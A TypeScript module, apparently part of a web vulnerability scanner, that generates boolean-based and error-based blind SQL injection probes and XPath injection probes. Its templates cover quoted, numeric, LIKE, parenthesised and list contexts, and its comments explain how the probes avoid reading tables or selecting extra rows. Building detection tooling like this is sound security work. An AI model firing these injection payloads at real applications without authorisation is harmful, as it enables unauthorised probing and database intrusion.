/** Text after a value that is true or false by itself, in one context of a query. */
export interface BooleanSyntax {
  /** Where the value is, for people. */
  readonly context: string;
  /** An equation of two numbers, which holds if they are equal. */
  equation(one: number, other: number): string;
  /** The same text with a word that is no operator. */
  nonsense(one: number): string;
  /** For programs that accept the text and show none of the rows: the database fails if the numbers differ. */
  readonly byError?: BooleanSyntax;
}

type Shape = (operator: string, one: number, other: number) => string;

function syntax(context: string, operator: string, word: string, shape: Shape): BooleanSyntax {
  return {
    context,
    equation: (one, other) => shape(operator, one, other),
    nonsense: (one) => shape(word, one, one),
  };
}

const bare: Shape = (operator, one, other) => ` ${operator} ${one}=${other}`;
const single: Shape = (operator, one, other) => `' ${operator} '${one}'='${other}`;
const double: Shape = (operator, one, other) => `" ${operator} "${one}"="${other}`;
const like: Shape = (operator, one, other) => `%' ${operator} '${one}' LIKE '${other}`;
const closedSingle: Shape = (operator, one, other) => `') ${operator} ('${one}'='${other}`;
const closedBare: Shape = (operator, one, other) => `) ${operator} (${one}=${other}`;

/** A subquery of two rows in place of one value fails in MySQL, MariaDB, PostgreSQL and SQL Server; it reads no table. */
const failing = (one: number, other: number) => `(CASE WHEN ${one}=${other} THEN 1 ELSE (SELECT 1 UNION SELECT 2) END)`;
const bareFailing: Shape = (operator, one, other) => ` ${operator} 1=${failing(one, other)}`;
const singleFailing: Shape = (operator, one, other) => `' ${operator} 1=${failing(one, other)} AND '1'='1`;
const listFailing: Shape = (word, one, other) => `,${failing(one, other).replace('CASE', word)}`;

const sql = (context: string, shape: Shape, byError?: Shape): BooleanSyntax => ({
  ...syntax(context, 'AND', 'AMD', shape),
  ...(byError === undefined ? {} : { byError: syntax(`${context}, an error`, 'AND', 'AMD', byError) }),
});
const SQL_BARE = sql('a number', bare, bareFailing);
const SQL_SINGLE = sql('single quotes', single, singleFailing);
const SQL_DOUBLE = sql('double quotes', double);
const SQL_LIKE = sql('a LIKE pattern', like);
const SQL_CLOSED_SINGLE = sql('quotes and a parenthesis', closedSingle);
const SQL_CLOSED_BARE = sql('a number and a parenthesis', closedBare);

/** Columns to sort by, and lists. */
const SQL_LIST = syntax('a list', 'CASE', 'CASK', listFailing);

/** The contexts of a query to try, most frequent first: only `AND`, so that a query never selects more than the site's own. */
export function sqlSyntaxes(example: string): readonly BooleanSyntax[] {
  if (/^-?\d+(?:\.\d+)?$/.test(example)) return [SQL_BARE, SQL_SINGLE, SQL_CLOSED_BARE, SQL_LIKE, SQL_DOUBLE, SQL_LIST];
  const texts = [SQL_SINGLE, SQL_LIKE, SQL_CLOSED_SINGLE, SQL_DOUBLE];
  // Without quotes a date is a difference, and a word the name of a column.
  if (IS_DATE.test(example)) return [...texts, SQL_BARE];
  return /^[a-z_]\w{0,60}$/i.test(example) ? [...texts, SQL_LIST] : texts;
}

/** A date that is valid without quotes. */
export const IS_DATE = /^\d{4}-\d{1,2}-\d{1,2}$/;

/** XPath knows its operators in lower case only (XPath 1.0, section 3.7): in upper case the expression is invalid. */
export const XPATH_SYNTAXES: readonly BooleanSyntax[] = [
  syntax('single quotes', 'and', 'AND', single),
  syntax('double quotes', 'and', 'AND', double),
  syntax('a number', 'and', 'AND', bare),
];

/**
 * For expressions that find nothing with the value: what is not equal adds everything. `starts-with` is a function of XPath 1.0 (section
 * 4.2) and a syntax error in SQL, where `WITH` is reserved, so that no statement can run with more than its own rows.
 */
export const XPATH_CHOICES: readonly BooleanSyntax[] = ["'", '"'].map((quote) =>
  syntax(
    quote === "'" ? 'single quotes' : 'double quotes',
    'starts-with',
    'starts-witt',
    (name, one, other) =>
      `${quote} or not(${name}(${quote}${one}${quote},${quote}${other}${quote})) and ${quote}1${quote}=${quote}1`,
  ),
);
